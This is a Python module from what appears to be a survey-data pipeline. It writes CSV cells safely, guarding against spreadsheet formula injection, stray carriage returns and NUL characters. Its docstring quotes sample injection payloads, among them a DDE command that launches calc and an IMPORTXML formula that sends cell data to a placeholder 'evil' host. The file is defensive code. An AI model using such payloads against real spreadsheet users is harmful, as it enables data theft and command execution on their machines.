"""The one place where a value becomes a CSV cell: every CSV line the pipeline writes is rendered by
:class:`CsvLines` (which :class:`CsvWriter` uses; stage 3 renders its lines where it finishes the rows).

The dialect is that of pipeline.md 9.5 (comma, ``"`` quotes doubled, ``\\n`` row terminators, UTF-8 without
BOM, header always written, ``None`` an empty cell, integers in decimal), with three deliberate differences from
2019, each a data-safety rule:

- **Formula neutralisation.** Anyone who can text the shortcode decides what a raw-text cell starts with, and
  analysts, coders and producers open these files in Excel or Google Sheets. A cell whose text starts with
  ``=``, ``+``, ``-``, ``@`` (or their full-width forms, or any of these after leading spaces), a tab or a carriage
  return would be read as a formula (``=HYPERLINK(...)``,
  ``+cmd|' /C calc'!A0``, ``=IMPORTXML("http://evil/?"&A2, ...)``), so it gets a leading ``'``, the spreadsheet
  convention for "this is text"; the spreadsheet shows the text as sent. No text column the pipeline writes holds a
  negative number (codes, ``true``/``false``, ``0``/``1``, ages 10-99, run ids are positive), so a text cell
  starting with ``-`` is always a participant's text or a code name and is neutralised like the others. Numbers
  passed as numbers (``int``, ``Decimal``: the coding-quality coefficients, which can be negative) are never
  formulas and are written as they are. JSON outputs (Coda
  files, the audit trail) keep the text as sent.
- **CR and LF are always quoted.** Python's csv module with the ``\\n`` terminator leaves a bare ``\\r``
  unquoted (2019's files have such rows, which every reader splits in two), and whether it does depends on the
  Python version. Here a field is quoted when it contains a comma, a quote, a CR or an LF, whatever the version.
- **No NUL.** NUL characters are dropped from cells (readers such as Python's csv module refuse a file with one).

Rendering is memoised per distinct text (most cells are one of a few codes), which keeps the writer as fast as the
csv module's C writer.
"""

from __future__ import annotations

import os
import re
import unicodedata
from decimal import Decimal
from typing import IO, Any, Iterable, Sequence

from redss_pipeline.core.atomic_files import atomic_open

__all__ = ["FORMULA_STARTS", "neutralise", "render_cell", "render_quoted_cell", "CsvLines", "CsvWriter", "write_csv"]

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""The first characters that make a spreadsheet read a cell as a formula (or, for tab and CR, that some
spreadsheets strip before looking for one): ``= + - @``, their full-width forms (which spreadsheets in East Asian
locales take for them), tab and carriage return."""

_NEEDS_QUOTES = re.compile(r'[",\r\n]')
_MEMO_LIMIT = 200_000  # distinct texts remembered per file; raw texts are mostly distinct, codes are few


def _skipped_before_formula(character: str) -> bool:
    """What some importers skip before they look for a formula (Google Sheets and LibreOffice can trim leading
    spaces): whitespace of any kind, and invisible format characters (Unicode category Cf: zero-width spaces and
    joiners, the byte order mark, direction marks, the soft hyphen)."""
    return character.isspace() or unicodedata.category(character) == "Cf"


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would otherwise read it as a formula: when it starts with
    one of :data:`FORMULA_STARTS`, or does once leading whitespace and invisible characters are skipped
    (``" =1+1"``)."""
    if text[:1] in FORMULA_STARTS:
        return "'" + text
    first = next((character for character in text if not _skipped_before_formula(character)), "")
    return "'" + text if first in FORMULA_STARTS else text


def render_cell(value: Any) -> str:
    """The characters written for one value: empty for None, decimal for integers, the text otherwise; then
    NUL dropped, formula neutralised, quoted when it holds a comma, a quote, a CR or an LF.

    A number the pipeline computed and passes as a number (``int`` or ``Decimal``, e.g. a negative Cohen's kappa
    in ``icr_agreement.csv``) is written as it is: a spreadsheet reads ``-0.250`` as a number, never as a
    formula. The same characters passed as text (a listener's answer ``-1``) are neutralised."""
    if value is None:
        return ""
    if type(value) is int or type(value) is Decimal:
        return str(value)
    text = value if type(value) is str else str(value)
    if "\x00" in text:
        text = text.replace("\x00", "")
    text = neutralise(text)
    if _NEEDS_QUOTES.search(text):
        text = '"' + text.replace('"', '""') + '"'
    return text


def render_quoted_cell(value: Any) -> str:
    """The cell of a file whose every field is quoted (the automated-analysis tables): as :func:`render_cell`,
    always in double quotes. A lone ``-`` (the tables' mark for a percentage of nothing) is not a formula and
    is kept as it is."""
    if value is None:
        return '""'
    if type(value) is int or type(value) is Decimal:
        return f'"{value}"'  # a number the pipeline computed, never a formula (see render_cell)
    text = value if type(value) is str else str(value)
    if "\x00" in text:
        text = text.replace("\x00", "")
    if text != "-":
        text = neutralise(text)
    return '"' + text.replace('"', '""') + '"'


class CsvLines:
    """Renders rows of values as CSV lines: ``lines = CsvLines(); lines(values)`` is the row's line, ``\\n``
    included, every cell through :func:`render_cell` (or :func:`render_quoted_cell` with ``quote_all``).

    Stage 3 renders its rows where it finishes them and writes the lines later, in order; :class:`CsvWriter`
    renders and writes at once. The cell of each distinct text is remembered (most cells are one of a few codes).
    """

    def __init__(self, *, quote_all: bool = False):
        self._render = render_quoted_cell if quote_all else render_cell
        self._memo: dict[str | None, str] = {None: self._render(None)}

    def _cell(self, value: Any) -> str:
        text = self._memo.get(value)
        if text is None:
            text = self._render(value)
            if type(value) is str:
                if len(self._memo) >= _MEMO_LIMIT:
                    self._memo.clear()
                    self._memo[None] = self._render(None)
                self._memo[value] = text
        return text

    def cells(self, values: Sequence[Any]) -> list[str]:
        """The cells of ``values``, each as it is written between the commas."""
        # The cells of texts met before (and of None) in one pass; then each miss, found by list.index, rendered
        # on its own. A str key never equals a number, so a number always misses and is rendered as a number.
        cells: list[Any] = list(map(self._memo.get, values))
        miss = -1
        try:
            while True:
                miss = cells.index(None, miss + 1)
                cells[miss] = self._cell(values[miss])
        except ValueError:  # no miss left
            pass
        return cells

    def __call__(self, values: Sequence[Any]) -> str:
        return self.line(self.cells(values))

    @staticmethod
    def line(cells: Sequence[str]) -> str:
        """The line of a row of rendered cells (or of runs of cells already joined with commas)."""
        line = ",".join(cells)
        if not line and len(cells) == 1:
            line = '""'  # a lone empty field, written so the row is not a blank line (as the csv module does)
        return line + "\n"


class CsvWriter:
    """Writes rows of values to an open text handle (opened with ``newline=""``) as CSV lines.

    ``writer = CsvWriter(handle); writer.writerow(header); writer.writerow(values)``. A row is a sequence of
    values (str, int or None); every cell passes through :func:`render_cell` (see :class:`CsvLines`).
    """

    def __init__(self, handle: IO[str], *, quote_all: bool = False):
        self._write = handle.write
        self._line = CsvLines(quote_all=quote_all)

    def writerow(self, values: Sequence[Any]) -> None:
        self._write(self._line(values))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def write_lines(self, lines: Iterable[str]) -> None:
        """Writes lines rendered by a :class:`CsvLines` (with their ``\\n``)."""
        for line in lines:
            self._write(line)


def write_csv(path: str | os.PathLike, header: Sequence[str], rows: Iterable[Sequence[Any]], *,
              quote_all: bool = False) -> None:
    """Writes a whole CSV file atomically (a temporary file renamed into place): the header, then the rows;
    ``quote_all`` puts every field in double quotes (the automated-analysis tables).

    Use this (or :class:`CsvWriter` on a handle from :func:`~redss_pipeline.core.atomic_files.atomic_open`)
    for every CSV the pipeline writes, so every file gets the same safe cells.
    """
    with atomic_open(path, "w", encoding="utf-8", newline="") as handle:
        writer = CsvWriter(handle, quote_all=quote_all)
        writer.writerow(header)
        writer.writerows(rows)
